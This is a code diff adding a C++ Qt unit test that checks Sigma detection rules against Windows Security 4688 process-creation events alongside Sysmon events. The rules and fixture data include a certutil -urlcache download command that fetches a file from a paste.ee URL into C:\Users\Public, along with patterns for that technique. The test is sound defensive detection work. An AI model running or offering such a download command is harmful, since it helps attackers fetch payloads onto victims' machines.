@@ -8,6 +8,7 @@
 #include "sigma/sigma_runner.h"
 #include "store/case_store.h"
 #include "store/statement.h"
+#include "tables/sigma_detail.h"
 
 #include <QTemporaryDir>
 #include <QtTest>
@@ -36,6 +37,7 @@ class TestSigma : public QObject {
     void cliListsCompiledUnsupportedAndHits();
     void sharedPublicRules();
     void prefilterKeepsEveryHit();
+    void processCreationReadsSecurity4688();
 
   private:
     QString labels(const QByteArray& yaml, QString* reason = nullptr);
@@ -576,3 +578,60 @@ void TestSigma::prefilterKeepsEveryHit() {
 
 QTEST_GUILESS_MAIN(TestSigma)
 #include "tst_sigma.moc"
+
+// process_creation rules run on the Security log's 4688 events too, each field read by its 4688
+// name (Image: NewProcessName, ParentImage: ParentProcessName); a field 4688 does not have
+// (OriginalFileName) matches only Sysmon's events. The hits are the same with the prefilter and
+// without it, and the detail names the event for what it is.
+void TestSigma::processCreationReadsSecurity4688() {
+    QTemporaryDir dir;
+    auto store = CaseStore::open(dir.filePath(QStringLiteral("security.socwb")));
+    for (const char* f : {"sigma/sysmon.xml", "sigma/security.xml"}) {
+        const ImportResult r = importInto(*store, fixture(QString::fromLatin1(f)));
+        QVERIFY2(r.status == QLatin1String("imported") && r.rejected == 0, qPrintable(r.message));
+    }
+    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM sysmon_events WHERE event_id = 4688").value_or(-1),
+             int64_t(2));
+    const QList<std::pair<QByteArray, QString>> cases{
+        {"  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'\n  condition: sel",
+         "e401"},
+        {"  sel:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\n  condition: sel", "e101 e402"},
+        {"  sel:\n    OriginalFileName: 'cmd.exe'\n  condition: sel", "e101 e106"},
+        {"  sel:\n    ParentImage|endswith: '\\winword.exe'\n  condition: sel", "e401"},
+        {"  sel:\n    ParentImage|endswith: '\\explorer.exe'\n    Image|contains: 'cmd'\n  condition: sel",
+         "e101 e106 e402"},
+        {"  keywords:\n    - 'paste.ee/r/'\n  condition: keywords", "e401"},
+    };
+    for (const auto& [detection, expected] : cases) {
+        const QList<SigmaRule> rules = loadRuleText(ruleYaml("process", detection), QStringLiteral("t.yml"));
+        for (const bool prefilter : {true, false}) {
+            const SigmaRun run = runRules(store->db(), rules, mappings_, nullptr, prefilter);
+            QVERIFY2(run.compiled.first().ok(), qPrintable(run.compiled.first().reason));
+            QStringList got;
+            for (int64_t rid : run.hits.first()) {
+                got << QStringLiteral("e%1").arg(queryInt(store->db(), "SELECT event_record_id FROM sysmon_events "
+                                                                       "WHERE id = " +
+                                                                           std::to_string(rid))
+                                                     .value_or(-1));
+            }
+            std::sort(got.begin(), got.end());
+            QCOMPARE(got.join(QLatin1Char(' ')), expected);
+        }
+    }
+    // Stored, the 4688 hit's detail says what the event is and shows its command line.
+    const QList<SigmaRule> certutil = loadRuleText(ruleYaml("process", cases.first().first), QStringLiteral("t.yml"));
+    QCOMPARE(storeHits(store->db(), certutil, runRules(store->db(), certutil, mappings_)), int64_t(1));
+    const SigmaDetail d =
+        readSigmaDetail(store->db(), -queryInt(store->db(), "SELECT min(id) FROM sigma_hits").value_or(0));
+    QVERIFY2(d.found, qPrintable(d.error));
+    QCOMPARE(d.hits.size(), 1);
+    QCOMPARE(d.hits[0].kind, QStringLiteral("Security event 4688"));
+    QCOMPARE(d.hits[0].text,
+             QStringLiteral("certutil.exe -urlcache -f https://paste.ee/r/Ab12 C:\\Users\\Public\\a.txt"));
+    QCOMPARE(d.row.host, QStringLiteral("WS-CAROL.corp.example"));
+    // A mapping may not give a 4688 name to a field of a source without 4688 events.
+    QVERIFY_THROWS_EXCEPTION(std::runtime_error,
+                             parseMappings("logsources:\n  - name: n\n    category: network_connection\n    source: "
+                                           "sysmon:3\n    fields:\n      Image: {data: Image, security: "
+                                           "NewProcessName}\n"));
+}
